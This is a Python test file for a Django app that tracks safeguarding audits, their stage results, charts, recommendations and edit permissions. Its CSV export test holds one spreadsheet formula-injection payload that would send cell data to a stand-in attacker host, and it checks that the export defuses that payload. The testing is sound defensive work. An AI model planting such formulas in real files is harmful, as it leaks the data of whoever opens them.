"""Audits: the list, an audit's page (judgements, movement, chart, recommendations), its forms and
the entry of a stage's results, with who may do what."""

import base64
import re
from datetime import date, timedelta

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from learning import charts
from learning.models import Audit, AuditResult, Recommendation
from lscb import roles
from tests.factories import (
    AgencyFactory,
    AuditFactory,
    BoardFactory,
    GroupFactory,
    RecommendationFactory,
    UserFactory,
)
from tests.governance import board_url

pytestmark = pytest.mark.django_db

LONG = "Évaluation des délais: «les enfants» — retour après fugue, et l\u2019accès aux soins. " * 6


def result(audit, stage, day, judgement, count, agency=None, standard=""):
    return AuditResult.objects.create(
        audit=audit, stage=stage, date=day, judgement=judgement, count=count, agency=agency, standard=standard
    )


@pytest.fixture
def audit(chaired_group):
    return AuditFactory(name="Section 11 audit 2025", group=chaired_group, started_on=date(2025, 5, 1))


def two_stages(audit, agencies=(), standards=("",)):
    for agency in agencies or [None]:
        for standard in standards:
            for judgement, first, then in [("red", 3, 1), ("amber", 4, 2), ("green", 5, 9), ("none", 1, 0)]:
                result(audit, "Initial", date(2025, 6, 1), judgement, first, agency, standard)
                if then:
                    result(audit, "After improvement action", date(2026, 4, 10), judgement, then, agency, standard)


# --- the list -----------------------------------------------------------------------------------------


def test_the_list_shows_the_boards_audits_only_and_offers_adding_to_the_manager(client_for, manager, audit):
    AuditFactory(name="Their audit", board=BoardFactory(name="Northmoor SAB", slug="nsab", kind="adults"))
    page = client_for(manager).get(board_url("learning:audit-list")).content.decode()
    assert "Section 11 audit 2025" in page
    assert "Their audit" not in page
    assert "Add an audit" in page


def test_a_member_reads_the_list_without_the_add_button(client_for, board_member, audit):
    response = client_for(board_member).get(board_url("learning:audit-list"))
    assert response.status_code == 200
    assert "Add an audit" not in response.content.decode()


def test_the_list_filters_by_kind_and_year_and_exports(client_for, manager, audit):
    AuditFactory(
        name="Neglect themed audit", kind="multi_agency", started_on=date(2023, 5, 1), completed_on=date(2024, 1, 9)
    )
    client = client_for(manager)
    page = client.get(board_url("learning:audit-list") + "?kind=multi_agency").content.decode()
    assert "Neglect themed audit" in page and "Section 11 audit 2025" not in page
    page = client.get(board_url("learning:audit-list") + "?year=2025-26").content.decode()
    assert "Section 11 audit 2025" in page and "Neglect themed audit" not in page
    csv = client.get(board_url("learning:audit-list") + "?_export=csv")
    assert csv.status_code == 200
    assert "Section 11 audit 2025" in b"".join(csv.streaming_content if csv.streaming else [csv.content]).decode()
    for sort in ("name", "-stages", "open_recommendations", "group", "-agency", "completed_on"):
        assert client.get(board_url("learning:audit-list") + f"?sort={sort}").status_code == 200, sort
    # A year that is no year is answered as the filter's error, not a failure.
    assert client.get(board_url("learning:audit-list") + "?year=banana&sort=nonsense").status_code == 200


def test_the_list_costs_the_same_few_queries_for_many_audits(
    client_for, manager, chaired_group, django_assert_max_num_queries
):
    agencies = [AgencyFactory(name=f"Agency {n}") for n in range(3)]
    for n in range(8):
        audit = AuditFactory(group=chaired_group, agency=agencies[n % 3], started_on=date(2025, 5, 1))
        two_stages(audit, agencies)
        RecommendationFactory(review=None, audit=audit, ref="1")
    client = client_for(manager)
    client.get(board_url("learning:audit-list"))
    with django_assert_max_num_queries(12):
        assert client.get(board_url("learning:audit-list")).status_code == 200


# --- an audit's page ----------------------------------------------------------------------------------


def test_the_page_shows_the_counts_per_stage_with_their_movement_and_the_chart(client_for, board_member, audit):
    two_stages(audit)
    page = client_for(board_member).get(board_url("learning:audit-detail", audit.pk)).content.decode()
    assert "Fully met 5 → 9 (+4)" in page
    assert "Not met 3 → 1 (-2)" in page
    assert "Total 13 → 12 (-1)" in page
    assert page.index("Initial") < page.index("After improvement action")
    assert 'src="data:image/svg+xml;base64,' in page
    assert "By agency and standard" not in page  # all together: no breakdown
    assert "Enter a stage" not in page  # a member reads only


def test_results_per_agency_and_standard_are_summed_and_broken_down(client_for, manager, audit):
    agencies = [AgencyFactory(name="Northmoor Constabulary"), AgencyFactory(name="Dale Valley NHS Trust")]
    two_stages(audit, agencies, standards=("1. Leadership", "2. Voice of the child"))
    page = client_for(manager).get(board_url("learning:audit-detail", audit.pk)).content.decode()
    assert "Fully met 20 → 36 (+16)" in page  # 5 and 9, for two agencies and two standards
    assert "By agency and standard" in page
    assert "2. Voice of the child" in page and "Dale Valley NHS Trust" in page


def test_the_detail_page_costs_the_same_few_queries_for_many_stages_and_agencies(
    client_for, manager, audit, django_assert_max_num_queries
):
    agencies = [AgencyFactory(name=f"Agency {n}") for n in range(6)]
    two_stages(audit, agencies, standards=("A", "B", "C"))
    for n in range(5):
        RecommendationFactory(review=None, audit=audit, ref=str(n + 1), lead_agency=agencies[n])
    client = client_for(manager)
    client.get(board_url("learning:audit-detail", audit.pk))
    with django_assert_max_num_queries(12):
        assert client.get(board_url("learning:audit-detail", audit.pk)).status_code == 200


def test_recommendations_show_their_status_and_overdue_ones_are_marked(client_for, manager, audit):
    today = timezone.localdate()
    late = RecommendationFactory(review=None, audit=audit, ref="1", due_date=today - timedelta(days=1))
    RecommendationFactory(review=None, audit=audit, ref="2", due_date=today, status="in_progress")
    RecommendationFactory(
        review=None, audit=audit, ref="3", status="not_to_implement", reason="Superseded", decided_on=today
    )
    page = client_for(manager).get(board_url("learning:audit-detail", audit.pk)).content.decode()
    assert f'id="recommendation-{late.pk}" class="table-danger overdue"' in page
    assert page.count("Overdue</span>") == 1
    assert "Decided not to implement" in page and "Why not: Superseded" in page


def test_long_accented_multi_line_text_renders(client_for, manager, audit):
    audit.findings = LONG + "\nSecond line <b>not bold</b>"
    audit.save()
    result(audit, LONG.strip(), date(2025, 6, 1), "green", 2, standard=LONG.strip())
    response = client_for(manager).get(board_url("learning:audit-detail", audit.pk))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Évaluation des délais" in page and "<br>Second line &lt;b&gt;not bold&lt;/b&gt;" in page


def test_the_chart_draws_hostile_labels_as_text():
    audit_stages = [
        charts.Stage("Initial $\\frac{", date(2025, 6, 1), charts.Counts(1, 2, 3, 0), ()),
        charts.Stage("A" * 300 + " $x$ " + LONG, date(2025, 9, 1), charts.Counts(0, 1, 5, 0), ()),
        charts.Stage("Empty", date(2025, 10, 1), charts.Counts(), ()),
    ]
    chart = charts.stage_chart("Section 11 $5 & <b>more</b> " + LONG, audit_stages)
    svg = base64.b64decode(charts.svg_data_uri(chart).split(",", 1)[1]).decode()
    assert svg.startswith("<svg") and "Initial $\\frac{" in svg
    assert "&lt;b&gt;more" in svg  # escaped, never markup
    assert "…" in svg  # a long label is cut, the table has it whole


def test_another_boards_audit_is_not_found(client_for, manager, board):
    theirs = AuditFactory(board=BoardFactory(name="Northmoor SAB", slug="nsab", kind="adults"))
    client = client_for(manager)
    assert client.get(board_url("learning:audit-detail", theirs.pk)).status_code == 404
    assert client.get(board_url("learning:audit-edit", theirs.pk)).status_code == 404
    assert client.get(board_url("learning:audit-results", theirs.pk)).status_code == 404


def test_a_role_for_the_other_board_is_refused(client, audit):
    adults = BoardFactory(name="Northmoor SAB", slug="nsab", kind="adults")
    user = UserFactory(username="theirs", board_roles=[(roles.BOARD_MEMBER, adults)])
    client.force_login(user)
    assert client.get(board_url("learning:audit-detail", audit.pk)).status_code == 403


# --- who edits ------------------------------------------------------------------------------------------


def test_the_chair_of_the_running_group_edits_theirs_but_not_another_groups(client_for, subgroup_chair, audit):
    other = AuditFactory(group=GroupFactory(name="Training Group"))
    client = client_for(subgroup_chair)
    for name in ("learning:audit-edit", "learning:audit-results", "learning:audit-recommendation-create"):
        assert client.get(board_url(name, audit.pk)).status_code == 200, name
        assert client.get(board_url(name, other.pk)).status_code == 403, name
    assert client.get(board_url("learning:audit-create")).status_code == 403
    page = client.get(board_url("learning:audit-detail", audit.pk)).content.decode()
    assert "Enter a stage" in page and "Add a recommendation" in page


def test_a_member_may_not_post_results(client_for, board_member, audit):
    response = client_for(board_member).post(board_url("learning:audit-results", audit.pk), {})
    assert response.status_code == 403
    assert not audit.results.exists()


# --- the audit's form -------------------------------------------------------------------------------------


def audit_data(**changes):
    data = {"name": "Section 175 audit 2026", "kind": "section_175", "started_on": "2026-01-05", "findings": LONG}
    return {**data, **changes}


def test_the_manager_adds_an_audit(client_for, manager, chaired_group):
    response = client_for(manager).post(board_url("learning:audit-create"), audit_data(group=chaired_group.pk))
    audit = Audit.objects.get(name="Section 175 audit 2026")
    assert response.url == audit.get_absolute_url()
    assert audit.group == chaired_group and audit.findings == LONG.strip()


def test_the_form_keeps_what_was_typed_and_says_what_is_wrong(client_for, manager):
    other_board_group = GroupFactory(name="SAR Sub-group", board=BoardFactory(name="SAB", slug="sab", kind="adults"))
    response = client_for(manager).post(
        board_url("learning:audit-create"),
        audit_data(
            name="Two\nlines", completed_on="2025-12-01", group=other_board_group.pk, kind="bogus", started_on="x"
        ),
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Write this on one line" in page or "one line" in page
    assert "Select a valid choice" in page  # the group of another board, and the kind
    assert "Enter the date day first, as 27/11/2026." in page
    assert "Évaluation des délais" in page  # kept
    assert not Audit.objects.exists()


def test_dates_out_of_order_and_a_taken_name_are_refused(client_for, manager, audit):
    client = client_for(manager)
    page = client.post(
        board_url("learning:audit-create"), audit_data(completed_on="2025-12-01", started_on="2026-01-05")
    ).content.decode()
    assert "cannot be completed before it starts" in page
    page = client.post(board_url("learning:audit-create"), audit_data(name=audit.name)).content.decode()
    assert "Another audit of this board has this name." in page


def test_an_edit_over_someone_elses_is_refused_and_keeps_the_users_entries(client_for, manager, audit):
    client = client_for(manager)
    opened = audit.version
    Audit.objects.filter(pk=audit.pk).update(findings="Their findings", version=opened + 1)
    data = audit_data(name="Section 11 audit 2025", kind="section_11", started_on="2025-05-01", version=opened)
    data["findings"] = "My findings"
    response = client.post(board_url("learning:audit-edit", audit.pk), data)
    page = response.content.decode()
    assert "Someone else saved this audit" in page
    assert "My findings" in page and "Their findings" in page
    audit.refresh_from_db()
    assert audit.findings == "Their findings"
    # Saving again, having seen theirs, goes through.
    data["version"] = opened + 1
    assert client.post(board_url("learning:audit-edit", audit.pk), data).status_code == 302
    audit.refresh_from_db()
    assert audit.findings == "My findings" and audit.version == opened + 2


# --- a stage's results -----------------------------------------------------------------------------------


def rows(*entries, stage="Initial", day="2025-06-01", **extra):
    data = {
        "stage": stage,
        "date": day,
        "rows-TOTAL_FORMS": str(len(entries)),
        "rows-INITIAL_FORMS": "0",
        **extra,
    }
    for n, entry in enumerate(entries):
        for key, value in entry.items():
            data[f"rows-{n}-{key}"] = value
    return data


def seen(client, url) -> str:
    """The fingerprint of the stage's counts the form at `url` was opened with."""
    return re.search(r'name="seen" value="([^"]*)"', client.get(url).content.decode()).group(1)


def stored(audit):
    return sorted(
        (r.stage, r.date.isoformat(), r.agency.name if r.agency else "", r.standard, r.judgement, r.count)
        for r in audit.results.all()
    )


def test_a_stage_is_entered_then_corrected(client_for, manager, audit):
    police = AgencyFactory(name="Northmoor Constabulary")
    client = client_for(manager)
    url = board_url("learning:audit-results", audit.pk)
    page = client.get(url).content.decode()
    assert "Enter a stage's results" in page
    response = client.post(
        url,
        rows(
            {"agency": police.pk, "standard": "1. Leadership", "red": "2", "amber": "", "green": "5", "none": "0"},
            {"agency": "", "standard": "", "red": "", "amber": "", "green": "", "none": ""},
        ),
    )
    assert response.status_code == 302
    assert stored(audit) == [
        ("Initial", "2025-06-01", "Northmoor Constabulary", "1. Leadership", "green", 5),
        ("Initial", "2025-06-01", "Northmoor Constabulary", "1. Leadership", "red", 2),
    ]
    # The stage's own page of corrections shows its counts; a new stage starts from its rows.
    page = client.get(url + "?stage=1").content.decode()
    assert 'value="Initial"' in page and 'value="5"' in page
    assert 'value="1. Leadership"' in client.get(url).content.decode()
    green = audit.results.get(judgement="green")
    response = client.post(
        url + "?stage=1",
        rows(
            {"agency": police.pk, "standard": "1. Leadership", "red": "0", "amber": "1", "green": "6", "none": ""},
            stage="Initial self-assessment",
            day="2025-06-02",
            current="Initial",
            seen=seen(client, url + "?stage=1"),
        ),
    )
    assert response.status_code == 302
    assert stored(audit) == [
        ("Initial self-assessment", "2025-06-02", "Northmoor Constabulary", "1. Leadership", "amber", 1),
        ("Initial self-assessment", "2025-06-02", "Northmoor Constabulary", "1. Leadership", "green", 6),
    ]
    assert audit.results.get(judgement="green").pk == green.pk  # corrected in place: its history goes on


def test_a_stage_can_be_removed(client_for, manager, audit):
    two_stages(audit)
    client = client_for(manager)
    url = board_url("learning:audit-results", audit.pk)
    response = client.post(url, rows({"red": "3"}, current="Initial", remove="on", seen=seen(client, url + "?stage=1")))
    assert response.status_code == 302
    assert set(audit.results.values_list("stage", flat=True)) == {"After improvement action"}


def test_a_correction_over_someone_elses_is_refused_and_keeps_the_users_counts(client_for, manager, audit):
    two_stages(audit)
    client = client_for(manager)
    url = board_url("learning:audit-results", audit.pk)
    opened = seen(client, url + "?stage=1")
    AuditResult.objects.filter(audit=audit, stage="Initial", judgement="green").update(count=50)  # theirs
    data = rows({"red": "2", "green": "7"}, current="Initial", seen=opened)
    response = client.post(url, data)
    page = response.content.decode()
    assert response.status_code == 400
    assert "Someone else saved this stage" in page and 'value="7"' in page
    assert audit.results.get(stage="Initial", judgement="green").count == 50
    # Saving again, having checked, goes through.
    data["seen"] = re.search(r'name="seen" value="([^"]*)"', page).group(1)
    assert client.post(url, data).status_code == 302
    assert audit.results.get(stage="Initial", judgement="green").count == 7
    assert not audit.results.filter(stage="Initial", judgement="amber").exists()


def test_a_correction_without_the_fingerprint_is_refused_as_stale(client_for, manager, audit):
    two_stages(audit)
    response = client_for(manager).post(
        board_url("learning:audit-results", audit.pk), rows({"red": "2"}, current="Initial", seen="damaged")
    )
    assert "Someone else saved this stage" in response.content.decode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (rows({"red": "-1"}), "A count cannot be negative."),
        (rows({"red": "lots"}), "Enter a whole number of answers."),
        (rows({"red": "10000000"}), "At most 100,000 answers in one row."),
        (rows({"red": ""}), "Enter at least one count"),
        (rows({"agency": "999999", "red": "1"}), "Choose an agency from the list."),
        (rows({"standard": "A", "red": "1"}, {"standard": "A", "green": "1"}), "Rows 1 and 2 are for the same"),
        (rows({"red": "1"}, stage=""), "This field is required."),
        (rows({"red": "1"}, stage="Two\nlines"), "one line"),
        (rows({"red": "1"}, day="2999-01-01"), "cannot be dated in the future"),
        (rows({"red": "1"}, day="2025-04-01"), "The audit started on 01/05/2025"),
        (rows({"red": "1"}, day="31/31/2025"), "Enter the date day first, as 27/11/2026."),
        (rows({"red": "1"}, stage="After improvement action"), "already has a stage called"),
        (rows({"red": "1"}, current="Gone meanwhile"), "Someone else removed or renamed this stage"),
    ],
)
def test_bad_results_are_refused_whole_with_a_clear_message(client_for, manager, audit, data, message):
    result(audit, "After improvement action", date(2025, 9, 1), "green", 4)
    before = stored(audit)
    response = client_for(manager).post(board_url("learning:audit-results", audit.pk), data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert stored(audit) == before


def test_a_damaged_formset_is_answered_not_failed(client_for, manager, audit):
    response = client_for(manager).post(board_url("learning:audit-results", audit.pk), {"stage": "Initial"})
    assert response.status_code == 400


def test_a_failure_half_way_saves_nothing(client_for, manager, audit, monkeypatch):
    from django.core.exceptions import ValidationError

    from learning import services

    calls = []

    def failing(*, result, by):
        calls.append(result)
        if len(calls) == 2:
            raise ValidationError("The database refused the second row.")
        result.save()
        return result

    monkeypatch.setattr(services, "audit_result_save", failing)
    response = client_for(manager).post(
        board_url("learning:audit-results", audit.pk), rows({"red": "1", "green": "2"}, {"standard": "B", "red": "3"})
    )
    assert response.status_code == 400
    assert "The database refused the second row." in response.content.decode()
    assert not audit.results.exists()


# --- an audit's recommendation ----------------------------------------------------------------------------


def test_a_recommendation_is_added_to_the_audit(client_for, subgroup_chair, audit, chaired_group):
    response = client_for(subgroup_chair).post(
        board_url("learning:audit-recommendation-create", audit.pk),
        {"ref": "1", "text": LONG, "lead_group": chaired_group.pk, "due_date": "2026-09-30"},
    )
    recommendation = Recommendation.objects.get(audit=audit)
    assert response.url == recommendation.get_absolute_url()
    assert recommendation.review is None and recommendation.lead_group == chaired_group


def test_a_recommendations_taken_ref_is_refused_with_the_text_kept(client_for, manager, audit):
    RecommendationFactory(review=None, audit=audit, ref="1")
    response = client_for(manager).post(
        board_url("learning:audit-recommendation-create", audit.pk), {"ref": "1", "text": "Mon texte à garder"}
    )
    page = response.content.decode()
    assert "This audit already has a recommendation with this reference." in page
    assert "Mon texte à garder" in page


def test_the_export_quotes_text_a_spreadsheet_would_run(client_for, manager, chaired_group):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    AuditFactory(name=formula, agency=AgencyFactory(name="+1+1"), group=chaired_group)
    response = client_for(manager).get(board_url("learning:audit-list") + "?_export=csv")
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+1+1" in text


def test_the_audits_history_opens_from_its_page(client_for, board_member, audit):
    client = client_for(board_member)
    page = client.get(board_url("learning:audit-detail", audit.pk)).content.decode()
    history = f"/history/learning/audit/{audit.pk}/?board={audit.board.slug}"
    assert history in page
    assert client.get(history).status_code == 200


@pytest.mark.parametrize("line_break", ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_names_and_titles_refuse_every_line_break(audit, line_break):
    from learning import forms_audits
    from lscb.text import ONE_LINE_MESSAGE

    value = f"Zoë{line_break}Ørsted"
    board = audit.board
    cases = [
        (forms_audits.AuditForm(data={"name": value}, board=board), "name"),
        (forms_audits.EvidenceForm(data={"title": value, "scope": value}, board=board), "title"),
        (forms_audits.EvidenceForm(data={"title": value, "scope": value}, board=board), "scope"),
        (forms_audits.AuditRecommendationForm(data={"ref": value}, audit=audit), "ref"),
        (forms_audits.StageForm(data={"stage": value}, audit=audit, current=None), "stage"),
        (forms_audits.ResultRowForm(data={"standard": value}), "standard"),
    ]
    for form, field in cases:
        form.is_valid()
        assert ONE_LINE_MESSAGE in form.errors.get(field, []), (type(form).__name__, field)


@settings(max_examples=15, deadline=None)
@given(name=st.text(max_size=400), title=st.text(max_size=300))
def test_any_stage_name_draws(name, title):
    stage = charts.Stage(name or "?", date(2025, 6, 1), charts.Counts(1, 0, 2, 0), ())
    svg = charts.svg(charts.stage_chart(title, [stage]))
    assert svg.startswith("<svg")
